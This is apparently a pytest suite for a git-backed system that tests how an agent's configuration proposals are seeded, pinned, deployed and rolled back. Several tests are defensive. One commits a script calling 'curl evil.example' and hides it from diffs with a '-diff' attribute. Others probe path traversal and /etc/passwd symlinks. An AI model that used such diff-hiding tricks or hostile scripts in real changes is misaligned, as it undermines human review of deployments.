"""The two repositories of an agent: seeded, proposed, pinned, deployed, rolled back."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
import trio

from hive.errors import BadRequest, Conflict, NotFound, ProgramFailed, Unavailable
from hive.host.git import ATTRIBUTES
from hive.host.repos import Repos
from hive.wire.names import AgentName
from tests.fakes.manager_git import ALICE, commit, git, make_repos, paths_of


@pytest.fixture
def proposed(tmp_path: Path) -> Path:
    return paths_of(tmp_path).agent_config(ALICE)


@pytest.fixture
def applied(tmp_path: Path) -> Path:
    return paths_of(tmp_path).applied(ALICE)


@pytest.fixture
async def adopted(repos: Repos) -> str:
    await repos.seed_proposed(ALICE)
    return await repos.adopt(ALICE)


def names_in(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def make_folder(folder: Path) -> None:
    folder.mkdir(parents=True)


async def deploy(repos: Repos, number: int) -> str:
    for state in ("approved", "building"):
        await repos.mark(ALICE, number, state)
    await repos.advance(ALICE, number)
    await repos.mark(ALICE, number, "deployed")
    main = await repos.main(ALICE)
    assert main is not None
    return main


async def test_a_seeded_repository_is_one_clean_commit_of_the_template(
    repos: Repos, proposed: Path
) -> None:
    assert not await repos.has_proposed(ALICE)
    sha = await repos.seed_proposed(ALICE)
    assert await repos.has_proposed(ALICE)
    assert await repos.head_of_proposed(ALICE) == sha == git(proposed, "rev-parse", "main")
    assert git(proposed, "log", "--format=%an <%ae> %s") == (
        "hive <hive@hyperhive> start from the template"
    )
    assert git(proposed, "status", "--porcelain") == ""
    assert (proposed / "agent.toml").read_text() == "# alice\n"


async def test_what_a_proposal_brings_is_told_whatever_becomes_of_it(
    tmp_path: Path, proposed: Path
) -> None:
    told: list[int] = []
    make_repos(tmp_path)
    repos = Repos(paths_of(tmp_path), files=lambda _: {"agent.toml": "# x\n"}, stored=told.append)
    await repos.seed_proposed(ALICE)
    await repos.adopt(ALICE)
    small = sum(told)
    noise = os.urandom(300_000).hex()
    await repos.pin(ALICE, 1, commit(proposed, {"noise": noise}))
    assert sum(told) - small > len(noise) // 2
    before = sum(told)
    # Asked for again, it brings its tags alone; they take room all the same.
    await repos.pin(ALICE, 2, git(proposed, "rev-parse", "HEAD"))
    assert 0 < sum(told) - before < 100_000


@pytest.mark.parametrize("left", [None, "", "* !text\n"])
async def test_a_commit_hides_nothing_where_the_repository_has_lost_its_attributes(
    tmp_path: Path, proposed: Path, applied: Path, left: str | None
) -> None:
    before = make_repos(tmp_path)
    await before.seed_proposed(ALICE)
    await before.adopt(ALICE)
    hidden: dict[str, str | bytes | None] = {
        ".gitattributes": "* -diff\n",
        "run": "#!/bin/sh\ncurl evil.example\n",
    }
    await before.pin(ALICE, 1, commit(proposed, hidden))
    file = applied / ".git/info/attributes"
    file.unlink()
    if left is not None:
        file.write_text(left)
    again = Repos(paths_of(tmp_path), files=lambda _: {})
    assert "+curl evil.example" in (await again.diff(ALICE, 1, "running")).text
    assert file.read_text() == ATTRIBUTES


async def test_a_repository_that_is_there_is_not_seeded_over(repos: Repos, proposed: Path) -> None:
    await repos.seed_proposed(ALICE)
    sha = commit(proposed, {"agent.toml": "# mine\n"})
    with pytest.raises(Conflict):
        await repos.seed_proposed(ALICE)
    assert git(proposed, "rev-parse", "HEAD") == sha


async def test_an_empty_directory_is_seeded_and_a_full_one_is_not(
    repos: Repos, proposed: Path
) -> None:
    make_folder(proposed)
    assert not await repos.has_proposed(ALICE)
    (proposed / "notes").write_text("mine")
    with pytest.raises(Conflict):
        await repos.seed_proposed(ALICE)
    (proposed / "notes").unlink()
    await repos.seed_proposed(ALICE)


async def test_the_manager_fetches_what_is_applied_by_the_path_it_sees(
    repos: Repos, proposed: Path, applied: Path, adopted: str
) -> None:
    assert git(proposed, "remote", "get-url", "applied") == "/applied/alice/.git"
    git(proposed, "config", "remote.applied.url", str(applied / ".git"))
    git(proposed, "fetch", "-q", "applied")
    assert git(proposed, "rev-parse", "applied/main", "deployed/0") == f"{adopted}\n{adopted}"


async def test_a_remote_that_was_bent_is_made_right_and_the_rest_is_left(
    repos: Repos, proposed: Path, adopted: str
) -> None:
    git(proposed, "config", "user.name", "me")
    git(proposed, "config", "remote.applied.url", "/elsewhere")
    git(proposed, "config", "--add", "remote.applied.url", "/further")
    await repos.wire(ALICE)
    before = (proposed / ".git/config").read_bytes()
    await repos.wire(ALICE)
    assert (proposed / ".git/config").read_bytes() == before
    assert git(proposed, "config", "--get-all", "remote.applied.url") == "/applied/alice/.git"
    assert git(proposed, "config", "user.name") == "me"


async def test_wiring_says_what_is_missing(repos: Repos, proposed: Path) -> None:
    with pytest.raises(NotFound, match="request_init_config"):
        await repos.wire(ALICE)
    await repos.seed_proposed(ALICE)
    (proposed / ".git/config").write_text("[broken")
    with pytest.raises(BadRequest, match="mend its"):
        await repos.wire(ALICE)


async def test_adopting_tags_what_is_there_as_deployed_once(
    repos: Repos, proposed: Path, applied: Path, adopted: str
) -> None:
    commit(proposed, {"agent.toml": "# later\n"})
    assert await repos.adopt(ALICE) == adopted
    assert await repos.deployed(ALICE) == ("deployed/0", adopted)
    assert (applied / "agent.toml").read_text() == "# alice\n"
    assert git(applied, "status", "--porcelain") == ""


async def test_nothing_can_be_adopted_without_a_commit(repos: Repos, proposed: Path) -> None:
    with pytest.raises(NotFound):
        await repos.adopt(ALICE)
    make_folder(proposed)
    git(proposed, "init", "-q")
    with pytest.raises(NotFound, match="no commit yet"):
        await repos.adopt(ALICE)
    assert await repos.main(ALICE) is None


async def test_an_adoption_that_was_cut_short_is_done_again(
    repos: Repos, applied: Path, adopted: str
) -> None:
    git(applied, "tag", "-d", "deployed/0")
    assert await repos.adopt(ALICE) == adopted
    assert await repos.deployed(ALICE) == ("deployed/0", adopted)
    git(applied, "update-ref", "-d", "refs/heads/main")
    assert await repos.adopt(ALICE) == await repos.main(ALICE) == adopted


async def test_what_was_tried_and_not_taken_back_is_not_adopted(
    repos: Repos, proposed: Path
) -> None:
    await repos.seed_proposed(ALICE)
    template = git(proposed, "rev-parse", "HEAD")
    await repos.pin(ALICE, 1, commit(proposed, {"agent.toml": "# broken"}))
    await repos.advance(ALICE, 1)
    with pytest.raises(Conflict, match="nobody approved it"):
        await repos.adopt(ALICE)
    git(proposed, "reset", "-q", "--hard", template)
    assert await repos.adopt(ALICE) == await repos.main(ALICE) == template


@pytest.mark.parametrize(
    "files",
    [{"agent.toml": "# evil\n"}, {"more": ""}, {"agent.toml": None}],
    ids=["another text", "one more file", "one less"],
)
async def test_only_the_template_is_adopted_unseen(
    repos: Repos, proposed: Path, files: dict[str, str | bytes | None]
) -> None:
    await repos.seed_proposed(ALICE)
    template = git(proposed, "rev-parse", "HEAD")
    commit(proposed, files)
    with pytest.raises(Conflict, match="is not the template, and nobody approved it"):
        await repos.adopt(ALICE)
    assert await repos.main(ALICE) is None
    assert await repos.deployed(ALICE) is None
    git(proposed, "reset", "-q", "--hard", template)
    (proposed / "agent.toml").chmod(0o755)
    commit(proposed, {})
    with pytest.raises(Conflict):
        await repos.adopt(ALICE)
    git(proposed, "reset", "-q", "--hard", template)
    assert await repos.adopt(ALICE) == template


async def test_a_pinned_commit_does_not_change_with_the_proposed_repository(
    repos: Repos, proposed: Path, adopted: str
) -> None:
    sha = commit(proposed, {"agent.toml": "# one\n", "bin/run": "#!/bin/sh\n"})
    assert await repos.pin(ALICE, 7, sha[:7]) == sha
    git(proposed, "commit", "-q", "--amend", "--allow-empty", "-m", "other")
    assert await repos.pin(ALICE, 7, sha) == sha
    assert await repos.states(ALICE, 7) == {"proposal"}
    assert await repos.main(ALICE) == adopted
    assert await repos.read_file(ALICE, "proposal/7", "bin/run") == b"#!/bin/sh\n"


async def test_a_number_is_pinned_to_one_commit(repos: Repos, proposed: Path, adopted: str) -> None:
    await repos.pin(ALICE, 7, commit(proposed, {"a": "1"}))
    with pytest.raises(Conflict):
        await repos.pin(ALICE, 7, commit(proposed, {"a": "2"}))


async def test_a_commit_beside_what_is_deployed_is_told_to_rebase(
    repos: Repos, proposed: Path, adopted: str
) -> None:
    first = commit(proposed, {"a": "1"})
    git(proposed, "checkout", "-q", "-b", "side", adopted)
    beside = commit(proposed, {"b": "1"})
    await repos.pin(ALICE, 1, first)
    await deploy(repos, 1)
    with pytest.raises(BadRequest, match="git rebase applied/main"):
        await repos.pin(ALICE, 2, beside)
    assert await repos.states(ALICE, 2) == set()


async def test_a_proposal_that_lost_its_race_is_refused_when_it_is_deployed(
    repos: Repos, proposed: Path, adopted: str
) -> None:
    await repos.pin(ALICE, 1, commit(proposed, {"a": "1"}))
    git(proposed, "checkout", "-q", "-b", "side", adopted)
    await repos.pin(ALICE, 2, commit(proposed, {"b": "1"}))
    main = await deploy(repos, 1)
    with pytest.raises(Conflict, match="git rebase applied/main"):
        await repos.advance(ALICE, 2)
    assert await repos.main(ALICE) == main


async def test_what_was_collected_and_packed_is_taken_too(
    repos: Repos, proposed: Path, adopted: str
) -> None:
    sha = commit(proposed, {f"many/{number}": f"{number}\n" * 20 for number in range(120)})
    git(proposed, "gc", "-q")
    assert await repos.pin(ALICE, 1, sha) == sha
    assert await repos.read_file(ALICE, sha, "many/119") == b"119\n" * 20


async def test_a_commit_that_is_applied_already_can_be_proposed_again(
    repos: Repos, adopted: str
) -> None:
    assert await repos.pin(ALICE, 3, adopted) == adopted
    assert (await repos.diff(ALICE, 3, "running")).files == ()


async def test_a_first_proposal_may_come_before_anything_is_deployed(
    repos: Repos, proposed: Path, applied: Path
) -> None:
    sha = await repos.seed_proposed(ALICE)
    await repos.pin(ALICE, 1, sha)
    assert await repos.main(ALICE) is None
    assert (await repos.diff(ALICE, 1, "running")).base_sha is None
    assert await repos.advance(ALICE, 1) is None
    await repos.roll_back(ALICE, None)
    assert await repos.main(ALICE) is None
    assert not (applied / "agent.toml").exists()


async def test_advancing_moves_main_and_its_files_and_says_where_it_was(
    repos: Repos, proposed: Path, applied: Path, adopted: str
) -> None:
    sha = commit(proposed, {"agent.toml": None, "b/c": "x"})
    await repos.pin(ALICE, 1, sha)
    assert await repos.advance(ALICE, 1) == adopted
    assert await repos.advance(ALICE, 1) == sha
    assert git(applied, "status", "--porcelain") == ""
    assert names_in(applied) == [".git", "b"]
    await repos.roll_back(ALICE, adopted)
    assert names_in(applied) == [".git", "agent.toml"]
    assert await repos.main(ALICE) == adopted


async def test_a_tag_stays_as_it_was_first_set(
    repos: Repos, proposed: Path, applied: Path, adopted: str
) -> None:
    await repos.pin(ALICE, 1, commit(proposed, {"a": "1"}))
    await repos.mark(ALICE, 1, "failed", "line one\n# line two\x00")
    await repos.mark(ALICE, 1, "failed", "another")
    assert git(applied, "tag", "-l", "--format=%(contents)", "failed/1") == "line one\n# line two"
    assert await repos.states(ALICE, 1) == {"proposal", "failed"}


async def test_a_note_may_be_empty_or_long(
    repos: Repos, proposed: Path, applied: Path, adopted: str
) -> None:
    await repos.pin(ALICE, 1, commit(proposed, {"a": "1"}))
    await repos.mark(ALICE, 1, "denied", "")
    await repos.mark(ALICE, 1, "failed", "é" * 100_000)
    assert await repos.states(ALICE, 1) == {"proposal", "denied", "failed"}


async def test_no_tag_without_a_proposal(repos: Repos, adopted: str) -> None:
    with pytest.raises(NotFound):
        await repos.mark(ALICE, 9, "approved")
    with pytest.raises(BadRequest):
        await repos.mark(ALICE, 0, "../../heads/main")


async def test_what_was_deployed_last_is_not_what_has_the_highest_number(
    repos: Repos, proposed: Path, adopted: str
) -> None:
    first, second = commit(proposed, {"a": "1"}), commit(proposed, {"a": "2"})
    await repos.pin(ALICE, 9, first)
    await repos.pin(ALICE, 4, second)
    await deploy(repos, 9)
    await deploy(repos, 4)
    assert await repos.deployed(ALICE) == ("deployed/4", second)


async def test_what_main_says_counts_before_its_log(
    repos: Repos, proposed: Path, applied: Path, adopted: str
) -> None:
    await repos.pin(ALICE, 1, commit(proposed, {"a": "1"}))
    main = await deploy(repos, 1)
    # As a power cut leaves it: git waits for the disk with a reference, and not with its log.
    log = applied / ".git/logs/refs/heads/main"
    log.write_text(log.read_text().splitlines(keepends=True)[0])
    assert await repos.deployed(ALICE) == ("deployed/1", main)


async def test_what_is_just_tried_is_not_what_is_deployed(
    repos: Repos, proposed: Path, adopted: str
) -> None:
    await repos.pin(ALICE, 1, commit(proposed, {"a": "1"}))
    await repos.advance(ALICE, 1)
    assert await repos.deployed(ALICE) == ("deployed/0", adopted)


async def test_tags_that_git_has_packed_are_found(
    repos: Repos, proposed: Path, applied: Path, adopted: str
) -> None:
    await repos.pin(ALICE, 1, commit(proposed, {"a": "1"}))
    main = await deploy(repos, 1)
    git(applied, "pack-refs", "--all")
    assert await repos.states(ALICE, 1) == {"proposal", "approved", "building", "deployed"}
    assert await repos.deployed(ALICE) == ("deployed/1", main)
    assert await repos.main(ALICE) == main


async def test_references_that_cannot_be_read_are_told_of(
    repos: Repos, applied: Path, adopted: str
) -> None:
    ref = applied / ".git/refs/heads/main"
    ref.symlink_to(ref.rename(applied / ".git/elsewhere"))
    with pytest.raises(Unavailable, match="cannot read"):
        await repos.main(ALICE)


async def test_of_nobody_nothing_is_deployed(repos: Repos) -> None:
    assert await repos.deployed(ALICE) is None
    assert await repos.states(ALICE, 1) == set()


async def test_an_export_is_whole_and_keeps_links_and_modes(
    repos: Repos, proposed: Path, tmp_path: Path, adopted: str
) -> None:
    (proposed / "run").write_text("#!/bin/sh\n")
    (proposed / "run").chmod(0o755)
    (proposed / "to").symlink_to("/etc/passwd")
    sha = commit(proposed, {"deep/er/file": b"\x00\xff", "empty": ""})
    await repos.pin(ALICE, 1, sha)
    target = tmp_path / "out" / sha
    await repos.export(ALICE, sha, target)
    assert (target / "deep/er/file").read_bytes() == b"\x00\xff"
    assert (target / "to").is_symlink()
    assert os.access(target / "run", os.X_OK)
    assert not os.access(target / "empty", os.X_OK)
    assert names_in(target) == ["agent.toml", "deep", "empty", "run", "to"]
    assert names_in(target.parent) == [sha]


async def test_an_export_that_is_there_is_left(repos: Repos, tmp_path: Path, adopted: str) -> None:
    target = tmp_path / "there"
    target.mkdir()
    await repos.export(ALICE, adopted, target)
    assert names_in(target) == []


async def test_reading_a_file_of_a_commit(repos: Repos, proposed: Path, adopted: str) -> None:
    (proposed / "to").symlink_to("/etc/passwd")
    await repos.pin(ALICE, 1, commit(proposed, {"d/f": b"\xff"}))
    assert await repos.read_file(ALICE, "main", "agent.toml") == b"# alice\n"
    assert await repos.read_file(ALICE, "proposal/1", "d/f") == b"\xff"
    assert await repos.read_file(ALICE, adopted, "d/f") is None
    for path in ("to", "d", "../agent.toml", "", "/etc/passwd", ".git/config"):
        with pytest.raises(BadRequest):
            await repos.read_file(ALICE, "proposal/1", path)
    for rev in ("--help", "HEAD", "main~1", "proposal/1^{tree}", "refs/heads/main"):
        with pytest.raises(BadRequest):
            await repos.read_file(ALICE, rev, "agent.toml")
    with pytest.raises(NotFound):
        await repos.read_file(ALICE, "proposal/5", "agent.toml")


async def test_removing_forgets_what_was_applied_and_keeps_what_is_proposed(
    repos: Repos, proposed: Path, applied: Path, adopted: str
) -> None:
    await repos.remove(ALICE)
    await repos.remove(ALICE)
    assert "alice" not in names_in(applied.parent)
    assert await repos.main(ALICE) is None
    assert await repos.adopt(ALICE) == adopted


async def test_locks_that_a_killed_git_left_are_cleaned_at_the_start(
    repos: Repos, proposed: Path, applied: Path, tmp_path: Path, adopted: str
) -> None:
    sha = commit(proposed, {"a": "1"})
    await repos.pin(ALICE, 1, sha)
    for name in ("index.lock", "HEAD.lock", "packed-refs.lock", "refs/heads/main.lock"):
        (applied / ".git" / name).write_text("")
    left = paths_of(tmp_path).state / "quarantine/left"
    left.mkdir(parents=True)
    later = Repos(paths_of(tmp_path), files=lambda _: {})
    await later.mark(ALICE, 1, "approved")
    await later.advance(ALICE, 1)
    assert await later.main(ALICE) == sha
    assert not left.exists()


async def test_references_that_a_killed_git_was_packing_can_be_removed(
    repos: Repos, proposed: Path, applied: Path, tmp_path: Path
) -> None:
    await repos.seed_proposed(ALICE)
    await repos.pin(ALICE, 1, commit(proposed, {"a": "1"}))
    await repos.advance(ALICE, 1)
    git(applied, "pack-refs", "--all")
    (applied / ".git/packed-refs.new").write_text("")
    later = Repos(paths_of(tmp_path), files=lambda _: {})
    await later.roll_back(ALICE, None)
    assert await later.main(ALICE) is None


async def test_a_lock_left_in_the_middle_of_the_day_is_cleaned_after_the_failure(
    repos: Repos, proposed: Path, applied: Path, adopted: str
) -> None:
    await repos.pin(ALICE, 1, commit(proposed, {"a": "1"}))
    (applied / ".git/index.lock").write_text("")
    with pytest.raises(ProgramFailed, match=r"index\.lock"):
        await repos.advance(ALICE, 1)
    await repos.advance(ALICE, 1)
    assert (applied / "a").exists()


async def test_two_agents_at_once_and_one_agent_twice(repos: Repos, tmp_path: Path) -> None:
    names = [AgentName(name) for name in ("alice", "bob", "carol")]
    async with trio.open_nursery() as nursery:
        for name in names:
            nursery.start_soon(repos.seed_proposed, name)
    async with trio.open_nursery() as nursery:
        for name in (*names, *names):
            nursery.start_soon(repos.adopt, name)
    shas = [
        commit(paths_of(tmp_path).agent_config(name), {"agent.toml": f"# {name} 2\n"})
        for name in names
    ]
    async with trio.open_nursery() as nursery:
        for name, sha in zip(names, shas, strict=True):
            nursery.start_soon(repos.pin, name, 1, sha)
            nursery.start_soon(repos.pin, name, 1, sha)
    assert [await repos.states(name, 1) for name in names] == [{"proposal"}] * 3


@pytest.mark.parametrize("delay_s", [0.001, 0.004, 0.008, 0.015, 0.03])
async def test_whatever_is_broken_off_can_be_done_again(
    repos: Repos, proposed: Path, applied: Path, adopted: str, delay_s: float
) -> None:
    sha = commit(proposed, {"a": "1"})
    with trio.move_on_after(delay_s):
        await repos.pin(ALICE, 1, sha)
        await repos.mark(ALICE, 1, "failed", "broken off")
        await repos.advance(ALICE, 1)
    assert await repos.pin(ALICE, 1, sha) == sha
    await repos.mark(ALICE, 1, "failed", "broken off")
    await repos.advance(ALICE, 1)
    assert git(applied, "status", "--porcelain") == ""
    assert "error" not in git(applied, "fsck", "--strict")


async def test_what_gathers_is_packed_and_nothing_with_a_tag_is_lost(
    repos: Repos, proposed: Path, applied: Path, adopted: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("hive.host.applied.LOOSE_PER_FOLDER", -1)
    shas = [commit(proposed, {"a": str(number)}) for number in range(8)]
    for number, sha in enumerate(shas, 1):
        (applied / ".git/objects/17").mkdir(exist_ok=True)
        await repos.pin(ALICE, number, sha)
    packs = names_in(applied / ".git/objects/pack")
    assert any(name.endswith(".pack") for name in packs)
    assert [(await repos.diff(ALICE, n, "running")).sha for n in range(1, 9)] == shas
    assert git(applied, "reflog", "--format=%H", "main") == adopted


async def test_a_repository_that_cannot_be_packed_takes_proposals_all_the_same(
    repos: Repos, proposed: Path, applied: Path, adopted: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    del adopted
    monkeypatch.setattr("hive.host.applied.LOOSE_PER_FOLDER", -1)
    monkeypatch.setattr("hive.host.applied.TIDY_S", 0.0)
    (applied / ".git/objects/17").mkdir(exist_ok=True)
    sha = commit(proposed, {"a": "1"})
    assert await repos.pin(ALICE, 1, sha) == sha
    assert await repos.states(ALICE, 1) == {"proposal"}
